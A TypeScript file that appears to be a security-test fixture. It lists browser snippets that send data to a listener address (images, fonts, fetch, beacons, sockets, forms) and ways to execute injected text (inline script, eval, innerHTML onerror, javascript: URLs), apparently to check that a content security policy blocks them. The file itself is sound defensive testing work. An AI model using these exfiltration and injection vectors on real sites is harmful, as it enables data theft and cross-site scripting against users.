/** What somebody would try whose code ran in the page. `AT` is where they listen; what was carried there ends in its name. */
export const CALLS_HOME: Readonly<Record<string, string>> = {
  'a picture': 'document.body.append(Object.assign(new Image(), { src: AT }))',
  'a script': "document.head.append(Object.assign(document.createElement('script'), { src: AT }))",
  'a module': 'await import(AT)',
  'a style sheet':
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: AT }))",
  'a prefetch': "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: AT }))",
  'a frame': "document.body.append(Object.assign(document.createElement('iframe'), { src: AT }))",
  'an object': "document.body.append(Object.assign(document.createElement('object'), { data: AT }))",
  'an embedded thing': "document.body.append(Object.assign(document.createElement('embed'), { src: AT }))",
  'a video': "document.body.append(Object.assign(document.createElement('video'), { src: AT, preload: 'auto' }))",
  'a sound': 'document.body.append(Object.assign(new Audio(), { src: AT, preload: "auto" }))',
  // Each on an element of its own: a busy page asks for a picture when it draws, and by then nothing may have replaced it.
  'a background': `
    const painted = document.createElement('p');
    painted.style.backgroundImage = 'url(' + AT + ')';
    document.body.append(painted)`,
  'a style attribute': `
    const framed = document.createElement('p');
    framed.setAttribute('style', 'border-image-source: url(' + AT + ')');
    document.body.append(framed)`,
  'a style element':
    "document.head.append(Object.assign(document.createElement('style'), { textContent: 'html { background: url(' + AT + ') }' }))",
  'a font': "document.fonts.add(await new FontFace('stolen', 'url(' + AT + ')').load())",
  'a drawing': `
    const use = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    use.setAttribute('href', AT);
    const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    drawing.append(use);
    document.body.append(drawing)`,
  'a fetch': "await fetch(AT, { mode: 'no-cors' })",
  'a request': "const request = new XMLHttpRequest(); request.open('GET', AT); request.send()",
  'a beacon': "navigator.sendBeacon(AT, 'secret')",
  'a stream of events': 'new EventSource(AT)',
  'a socket': "new WebSocket(AT.replace('http:', 'ws:'))",
  'a form': `
    const form = Object.assign(document.createElement('form'), { action: AT, target: '_blank' });
    document.body.append(form);
    form.submit()`,
};

/** Ways of making code of a text. Each calls `attack()` when it runs. */
export const RUNS_CODE: Readonly<Record<string, string>> = {
  'inline script': `
    const script = document.createElement('script');
    script.append('attack("inline script")');
    document.head.append(script)`,
  'script of a data address': `
    document.head.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,attack("script of a data address")' }))`,
  'script of a blob': `
    const source = URL.createObjectURL(new Blob(['attack("script of a blob")'], { type: 'text/javascript' }));
    document.head.append(Object.assign(document.createElement('script'), { src: source }))`,
  'attribute of an event': `
    const picture = document.createElement('img');
    picture.setAttribute('onerror', 'attack("attribute of an event")');
    picture.src = '/assets/none.png';
    document.body.append(picture)`,
  'inner HTML': `
    const box = document.createElement('div');
    document.body.append(box);
    box.innerHTML = '<img src="/assets/none.png" onerror="attack(\\'inner HTML\\')">'`,
  'written document': `
    const range = document.createRange();
    document.body.append(range.createContextualFragment('<img src="/assets/none.png" onerror="attack(\\'written document\\')">'))`,
  'script address': `
    const link = Object.assign(document.createElement('a'), { href: 'javascript:attack("script address")' });
    document.body.append(link);
    link.click()`,
  eval: 'globalThis.eval(\'attack("eval")\')',
  function: 'new Function(\'attack("function")\')()',
  'timer of a text': 'setTimeout(\'attack("timer of a text")\')',
  worker: `
    const code = 'postMessage(1)';
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    worker.onmessage = () => attack('worker')`,
};
